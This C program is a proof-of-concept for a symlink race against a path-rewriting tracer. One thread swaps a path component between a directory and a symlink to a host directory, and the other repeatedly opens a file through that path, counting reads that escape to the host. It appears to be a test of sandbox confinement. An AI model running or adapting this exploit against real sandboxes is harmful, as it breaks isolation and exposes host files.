// The check-then-use race of a path-rewriting tracer, attempted for real.
// In DIR (a guest path), "x" is swapped by one thread between a directory
// holding "secret" and a symlink whose body is HOSTDIR, a host directory
// outside the guest's view that also holds "secret". The other thread opens
// "DIR/x/secret" over and over. The tracer resolves the path while "x" is
// the directory and hands the kernel a symlink-free host path; if the swap
// lands before the kernel walks it, the kernel follows the symlink in host
// terms and reads the host's file. Prints how many reads saw the host's
// content ("escapes") and how many saw the guest's, after SECONDS.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char dir[4096], x[4200], real[4200], link_[4200], secret[4300];
static atomic_int stop;

static void* swapper(void* arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    rename(real, x);  // x is the directory
    rename(x, real);
    rename(link_, x);  // x is the symlink
    rename(x, link_);
  }
  return NULL;
}

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: symlink_race DIR HOSTDIR SECONDS\n");
    return 2;
  }
  snprintf(dir, sizeof dir, "%s", argv[1]);
  snprintf(x, sizeof x, "%s/x", dir);
  snprintf(real, sizeof real, "%s/real", dir);
  snprintf(link_, sizeof link_, "%s/link", dir);
  snprintf(secret, sizeof secret, "%s/x/secret", dir);
  mkdir(real, 0755);
  char file[4300];
  snprintf(file, sizeof file, "%s/secret", real);
  FILE* f = fopen(file, "w");
  if (!f) { perror(file); return 1; }
  fputs("guest", f);
  fclose(f);
  if (symlink(argv[2], link_) != 0) { perror("symlink"); return 1; }
  pthread_t t;
  pthread_create(&t, NULL, swapper, NULL);
  long escapes = 0, guest = 0, other = 0;
  const time_t end = time(NULL) + atoi(argv[3]);
  while (time(NULL) < end) {
    char buf[32] = {0};
    const int fd = open(secret, O_RDONLY);
    if (fd < 0) { ++other; continue; }
    if (read(fd, buf, sizeof buf - 1) < 0) buf[0] = 0;
    close(fd);
    if (strcmp(buf, "guest") == 0) ++guest;
    else if (strncmp(buf, "HOST", 4) == 0) ++escapes;
    else ++other;
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("escapes %ld guest %ld other %ld\n", escapes, guest, other);
  return 0;
}
